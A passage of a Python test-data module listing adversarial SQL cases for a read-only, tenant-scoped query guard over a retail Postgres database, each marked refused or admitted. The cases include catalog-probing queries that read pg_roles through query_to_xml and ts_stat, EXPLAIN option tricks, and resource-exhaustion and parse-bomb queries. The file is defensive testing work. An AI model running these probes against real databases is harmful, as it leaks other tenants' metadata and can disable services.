    _attribute("in_having", _FIELD, f"SELECT count(*) FROM retail.orders HAVING max({_SIG}) IS NOT NULL"),
    _attribute("in_order_by", _FIELD, f"SELECT order_id FROM retail.orders ORDER BY {_SIG}"),
    _attribute(
        "in_join_on",
        _COLUMN,
        "SELECT 1 FROM retail.orders o JOIN retail.stores s ON s.pg_relation_size > 0",
    ),
    _attribute("in_lateral", _COLUMN, "SELECT x.* FROM retail.orders o, LATERAL (SELECT o.pg_relation_size) x"),
    _attribute("in_cte_body", _FIELD, f"WITH c AS (SELECT {_SIG} AS v) SELECT v FROM c", "context_forgery"),
    _attribute("in_subselect", _FIELD, f"SELECT (SELECT {_SIG}) AS v", "context_forgery"),
    _attribute("in_values", _FIELD, f"SELECT * FROM (VALUES ({_SIG})) v(s)", "context_forgery"),
    _attribute("in_function_argument", _FIELD, f"SELECT length({_SIG})", "context_forgery"),
    _attribute(
        "in_window_definition",
        _FIELD,
        f"SELECT count(*) OVER w FROM retail.orders WINDOW w AS (PARTITION BY {_SIG})",
    ),
    _attribute("in_correlated_subselect", _COLUMN, "SELECT (SELECT o.pg_relation_size) FROM retail.orders o"),
    # The same functions called plainly are refused too.
    _refused(
        "query_to_xml_runs_sql_string",
        "catalog_access",
        "function_not_allowed",
        "SELECT query_to_xml('SELECT rolname FROM pg_roles', true, false, '')",
    ),
    _refused(
        "ts_stat_in_from",
        "catalog_access",
        "function_not_allowed",
        "SELECT * FROM ts_stat('SELECT to_tsvector(rolname) FROM pg_roles')",
    ),
    _refused("database_to_xml", "catalog_access", "function_not_allowed", "SELECT database_to_xml(true, false, '')"),
    _refused(
        "cursor_to_xml",
        "catalog_access",
        "function_not_allowed",
        "SELECT cursor_to_xml('c'::refcursor, 1, true, false, '')",
    ),
    _refused(
        "live_tuples_counter",
        "side_channel",
        "function_not_allowed",
        "SELECT pg_stat_get_live_tuples(16384)",
    ),
    _refused(
        "backend_activity",
        "side_channel",
        "function_not_allowed",
        "SELECT pg_stat_get_backend_activity(g) FROM generate_series(1, 300) g",
    ),
)

_CATALOG_TYPES = (
    *tuple(
        _refused(f"type_{id}", "catalog_access", "type_not_allowed", sql)
        for id, sql in (
            ("aclitem_role_oracle", "SELECT 'zava_app=r/zava_owner'::aclitem"),
            ("aclitem_typed_literal", "SELECT aclitem 'zava_app=r/zava_owner'"),
            ("aclitem_cast", "SELECT CAST('zava_app=r/zava_owner' AS pg_catalog.aclitem)"),
            ("aclitem_array", "SELECT '{zava_app=r/zava_owner}'::aclitem[]"),
            ("regclass_lookup", "SELECT 'retail.orders'::regclass"),
            ("regrole_lookup", "SELECT 'zava_owner'::regrole"),
            ("oid_cast", "SELECT 16384::oid"),
            ("pg_lsn", "SELECT '0/0'::pg_lsn"),
            ("xid", "SELECT '1'::xid"),
            ("txid_snapshot", "SELECT '1:1:'::pg_snapshot"),
            ("xml_input", "SELECT '<a/>'::xml"),
        )
    ),
    _refused("regclass_as_function", "catalog_access", "function_not_allowed", "SELECT regclass('retail.orders')"),
)

_DUPLICATE_OPTIONS = tuple(
    _refused(f"explain_{id}", "side_channel", "duplicate_option", f"EXPLAIN ({options}) SELECT * FROM retail.orders")
    for id, options in (
        ("costs_off_then_on", "COSTS OFF, COSTS ON"),
        ("costs_off_then_true", "COSTS OFF, COSTS true"),
        ("costs_off_then_bare", "COSTS false, COSTS"),
        ("costs_mixed_case", "costs off, Costs On"),
        ("costs_around_others", "COSTS OFF, VERBOSE, FORMAT JSON, COSTS 1"),
        ("format_twice", "COSTS OFF, FORMAT JSON, FORMAT TEXT"),
    )
)

_AMPLIFICATION = tuple(
    _refused(f"amplify_{id}", "resource_exhaustion", rule, sql)
    for id, rule, sql in (
        ("nested_repeat", "value_size_bound", "SELECT repeat(repeat('x', 10000), 10000)"),
        ("concat_in_repeat", "value_size_bound", "SELECT repeat(repeat('x', 1000) || repeat('y', 1000), 10000)"),
        ("generated_fill", "value_size_bound", "SELECT lpad('', 10000, repeat('x', 10000))"),
        ("rpad_generated_fill", "value_size_bound", "SELECT rpad('', 10000, repeat('x', 10000))"),
        ("replace", "value_size_bound", "SELECT replace(repeat('x', 10000), 'x', repeat('y', 10000))"),
        (
            "regexp_replace",
            "value_size_bound",
            "SELECT regexp_replace(repeat('x', 10000), 'x', repeat('y', 10000), 'g')",
        ),
        (
            "through_cte",
            "value_size_bound",
            "WITH a AS (SELECT repeat('x', 10000) AS s) SELECT repeat(a.s, 10000) FROM a",
        ),
        (
            "through_subselect",
            "value_size_bound",
            "SELECT repeat(s.v, 10000) FROM (SELECT repeat('x', 10000) AS v) s",
        ),
        ("through_scalar_subquery", "value_size_bound", "SELECT repeat((SELECT repeat('x', 10000)), 10000)"),
        (
            "aggregate_over_series",
            "value_size_bound",
            "SELECT string_agg(repeat('x', 10000), '') FROM generate_series(1, 100000)",
        ),
        (
            "array_over_series",
            "value_size_bound",
            "SELECT array_agg(repeat('x', 10000)) FROM generate_series(1, 100000)",
        ),
        ("format_of_generated", "value_size_bound", "SELECT repeat(format('%s%s', repeat('x', 10000), 'y'), 10000)"),
        (
            "series_step_microseconds",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(date '2024-01-01', date '2024-12-31', interval '1 us')",
        ),
        (
            "series_step_microsecond_word",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', '1 microsecond')",
        ),
        (
            "series_step_iso8601",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', 'PT0.000001S')",
        ),
        (
            "series_step_field_qualifier",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2025-01-01', interval '1' second)",
        ),
        (
            "series_step_make_interval",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', "
            "make_interval(secs => 0.000001))",
        ),
        (
            "series_step_clock",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', '00:00:00.000001')",
        ),
        (
            "series_step_cancelling_units",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', "
            "interval '1 day -86399.999999 seconds')",
        ),
        (
            "series_step_computed",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', interval '1 day' / 1e6)",
        ),
        (
            "series_step_unreadable",
            "generate_series_step",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', timestamp '2024-12-31', interval '1 fortnight')",
        ),
        (
            "series_to_infinity",
            "generate_series_bound",
            "SELECT count(*) FROM generate_series(timestamp '2024-01-01', 'infinity'::timestamp, interval '1 day')",
        ),
    )
)

_PARSE_BOMBS = tuple(
    _refused(f"parse_bomb_{id}", "resource_exhaustion", "too_complex", sql[:20_000])
    for id, sql in (
        ("long_sum", "SELECT " + "+".join(["1"] * 9_999)),
        ("long_difference", "SELECT 1" + "-1" * 9_990),
        ("long_concatenation", "SELECT " + "||".join(["'a'"] * 4_900)),
        ("long_in_list", "SELECT 1 IN (" + ",".join(["1"] * 9_900) + ")"),
        ("long_array", "SELECT ARRAY[" + ",".join(["1"] * 9_900) + "]"),
        ("nested_calls", "SELECT " + "abs(" * 3_000 + "1" + ")" * 3_000),
        ("nested_subselects", "SELECT " + "(SELECT " * 2_000 + "1" + ")" * 2_000),
        ("repeated_casts", "SELECT 1" + "::int" * 3_900),
    )
)

# Issue 12 admitted these families; each must still see only the caller's stores (the checker
# compares every returned value with the other stores' ids and names) and change nothing.
_SCOPE = "(SELECT string_agg(store_id::text || ' ' || store_name, ' ') FROM retail.stores)"
_ADMITTED_FAMILIES = (
    _db(
        "text_search_over_all_stores",
        "side_channel",
        f"SELECT to_tsvector('simple', {_SCOPE}) AS v, ts_headline('simple', {_SCOPE}, "
        "websearch_to_tsquery('simple', 'zava OR retail')) AS h",
        None,
        "RLS filters the stores sub-select: only the caller's own store ids and names appear.",
    ),
    _db(
        "text_search_rank_of_other_stores",
        "side_channel",
        "SELECT o.store_id, ts_rank(to_tsvector('simple', o.store_id::text), plainto_tsquery('simple', "
        f"'{OTHER_STORE}')) FROM retail.orders o ORDER BY 2 DESC LIMIT 20",
        None,
        "Ranking cannot reach rows RLS filtered out.",
    ),
    _db(
        "regexp_split_to_table_of_all_stores",
        "side_channel",
        "SELECT regexp_split_to_table((SELECT string_agg(DISTINCT store_id::text, ',') FROM retail.orders), ',')",
        None,
        "Only the caller's stores are aggregated.",
    ),
    _db(
        "overlay_of_store_ids",
        "side_channel",
        "SELECT DISTINCT overlay(store_id::text placing '' from 1 for 0) FROM retail.customers",
        None,
        "A string function over an RLS-filtered table.",
    ),
    _db(
        "jsonb_to_recordset_of_all_orders",
        "side_channel",
        "SELECT DISTINCT x.store_id FROM jsonb_to_recordset((SELECT jsonb_agg(o) FROM retail.orders o)) "
        "AS x(store_id uuid, order_id uuid)",
        None,
        "The JSON record functions see only what the sub-select saw: the caller's rows.",
    ),
    _db(
        "json_to_record_of_a_row",
        "side_channel",
        "SELECT DISTINCT x.store_id FROM retail.inventory i, json_to_record(row_to_json(i)) AS x(store_id uuid)",
        None,
        "A row turned into JSON and back is still a row the caller may see.",
    ),
    _db(
        "random_sample_of_orders",
        "side_channel",
        "SELECT store_id FROM retail.orders ORDER BY random() LIMIT 50",
        None,
        "A random sample is drawn from the caller's rows only.",
    ),
    _db(
        "repeat_capped_by_least",
        "resource_exhaustion",
        "SELECT repeat(store_id::text, LEAST(quantity, 3)) FROM retail.order_items LIMIT 20",
        None,
        "A provably bounded repeat over RLS-filtered rows.",
    ),
    _db(
        "regconfig_oid_lookup",
        "catalog_access",
        "SELECT 3748::regconfig, 'english'::regconfig",
        None,
        "regconfig names a text search configuration: the same for every store, no tenant data.",
    ),
    _refused(
        "ts_rewrite_runs_sql_string",
        "dangerous_function",
        "function_not_allowed",
        "SELECT ts_rewrite('a'::tsquery, 'SELECT ''a''::tsquery, ''b''::tsquery')",
    ),
    _refused(
        "ts_stat_of_product_search",
        "dangerous_function",
        "function_not_allowed",
        "SELECT * FROM ts_stat('SELECT search_document FROM retail.products')",
    ),
    _refused("ts_debug_reads_catalogs", "catalog_access", "function_not_allowed", "SELECT * FROM ts_debug('a b')"),
    _refused("current_text_search_config", "side_channel", "function_not_allowed", "SELECT get_current_ts_config()"),
    _refused("setseed_still_refused", "dangerous_function", "function_not_allowed", "SELECT setseed(0.5)"),
    _refused(
        "repeat_uncapped_computed_count",
        "resource_exhaustion",
        "string_size_bound",
        "SELECT repeat('x', (SELECT sum(quantity) FROM retail.order_items)::int * 100000)",
    ),
    _refused("regdictionary_still_refused", "catalog_access", "type_not_allowed", "SELECT 'simple'::regdictionary"),
)

ADVERSARIAL_CASES: tuple[AdversarialCase, ...] = (
    _CONTEXT_FORGERY
    + _ESCAPE_READ_ONLY
    + _DANGEROUS_FUNCTION
    + _DATA_MODIFYING
    + _OBFUSCATION
    + _SIDE_CHANNEL
    + _RESOURCE_EXHAUSTION
    + _CATALOG_ACCESS
    + _ATTRIBUTE_NOTATION
    + _CATALOG_TYPES
    + _DUPLICATE_OPTIONS
    + _AMPLIFICATION
    + _PARSE_BOMBS
    + _ADMITTED_FAMILIES
)
